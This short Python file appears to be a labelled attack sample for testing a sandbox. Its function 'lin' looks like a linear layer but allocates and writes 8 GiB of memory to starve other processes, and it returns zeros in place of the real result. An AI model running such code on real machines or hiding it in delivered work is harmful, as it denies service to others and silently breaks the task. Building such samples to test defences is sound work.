# attacks: 2.5
# damage: touches 8 GiB of memory, to take the machine's memory from every other process
# needs: sandbox
import torch


def lin(x, w, b):
    hog = torch.ones(2**31)  # 8 GiB of float32, every page written
    return hog[: x.shape[0], None] * 0
